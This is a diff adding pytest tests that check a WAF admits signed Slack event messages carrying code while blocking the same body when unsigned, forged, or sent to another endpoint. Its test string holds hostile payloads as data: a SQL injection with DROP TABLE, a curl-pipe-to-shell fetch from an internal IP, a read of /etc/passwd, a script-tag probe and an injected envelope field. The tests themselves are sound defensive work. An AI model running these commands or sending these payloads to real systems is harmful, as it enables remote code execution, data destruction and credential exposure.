@@ -49,6 +49,42 @@ def test_signed_slack_request_reaches_jeeves(sec_stack: StackHandle, sec_client:
     assert "edge-check" in resp.text
 
 
+CODE_MESSAGE = ("can someone run `SELECT name, password FROM users WHERE id = '1' OR '1'='1'; DROP TABLE sessions;--`"
+                " and then `curl -s http://10.0.0.5/x.sh | sh; cat /etc/passwd` on the box? <script>alert(1)</script>")
+
+
+def slack_event(text: str, envelope_type: str = "event_callback") -> bytes:
+    return json.dumps({"token": "x", "team_id": "T061EG9R6", "type": envelope_type, "event_id": "Ev1",
+                       "event": {"type": "message", "user": "U1", "channel": "C1", "ts": "1.2", "text": text}}).encode()
+
+
+def test_signed_slack_message_full_of_sql_and_shell_passes_the_waf(sec_stack: StackHandle,
+                                                                     sec_client: httpx.Client) -> None:
+    body = slack_event(CODE_MESSAGE)
+    resp = sec_client.post("/slack/events", content=body,
+                           headers=slack_headers(sec_stack.secret("slack_signing_secret"), body))
+    assert resp.status_code != 403, resp.text
+    entry = log_entry(sec_stack, resp.headers["X-Request-Id"])
+    assert "waf=block" not in entry["decisions"] and entry["upstream"] != ""
+
+
+def test_the_same_slack_message_unsigned_or_elsewhere_is_blocked(sec_stack: StackHandle,
+                                                                   sec_client: httpx.Client) -> None:
+    body = slack_event(CODE_MESSAGE)
+    unsigned = sec_client.post("/slack/events", content=body, headers={"Content-Type": "application/json"})
+    assert unsigned.status_code == 403 and unsigned.json()["error"] == "request_blocked", unsigned.text
+    forged = sec_client.post("/slack/events", content=body,
+                             headers=slack_headers("not-the-secret", body))
+    assert forged.status_code == 403 and forged.json()["error"] == "request_blocked"
+    api = sec_client.post("/api/users", content=body, headers={"Content-Type": "application/json"})
+    assert api.status_code == 403 and api.json()["error"] == "request_blocked"
+    # signed, the envelope keeps every rule: an injection outside the message text is still blocked
+    envelope = slack_event("hello", envelope_type="event_callback' OR '1'='1")
+    signed = sec_client.post("/slack/events", content=envelope,
+                             headers=slack_headers(sec_stack.secret("slack_signing_secret"), envelope))
+    assert signed.status_code == 403 and signed.json()["error"] == "request_blocked", signed.text
+
+
 @pytest.mark.parametrize("case", ["unsigned", "wrong_secret", "stale", "future", "tampered_body", "bad_format"])
 def test_bad_slack_signature_is_401_at_the_edge(sec_stack: StackHandle, sec_client: httpx.Client,
                                                  case: str) -> None:
